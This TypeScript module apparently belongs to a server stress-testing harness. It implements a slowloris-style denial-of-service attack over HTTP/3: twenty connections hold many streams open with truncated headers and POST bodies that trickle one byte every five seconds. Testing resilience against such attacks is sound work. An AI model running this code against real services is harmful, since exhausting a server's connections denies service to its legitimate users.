import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../../attack.ts";
import { get, headersFrame, post } from "../../clients/http3-frames.ts";
import { RawHttp3 } from "../../clients/raw-http3.ts";

/** Of its own: what others hold of the share of theirs would shut it out. */
const from = "127.0.0.22";

const connections = 20;
/** Between two bytes, in ms. */
const pauseMs = 5000;

/** Header fields and bodies that never come to their end: half of a connection's streams each, a byte now and then. */
export const slowRequests: Attack = {
  name: "slow headers and bodies",
  unit: "requests",
  async run(target, signal, tally) {
    await Promise.all(
      Array.from({ length: connections }, async () => {
        while (!signal.aborted) {
          const client = await RawHttp3.open(target, { from });
          const bodies: number[] = [];
          for (; client.hasRoom && !signal.aborted; tally()) {
            client.stream(headersFrame(get("/", target)).subarray(0, 20), false);
            if (client.hasRoom) bodies.push(client.request(post("/v1/mailbox/x", target), false));
          }
          while (!client.isClosed && !signal.aborted) {
            for (const id of bodies) client.send(id, Buffer.from("x"));
            await sleep(pauseMs, undefined, { signal }).catch(() => undefined);
          }
          client.close();
        }
      }),
    );
  },
};
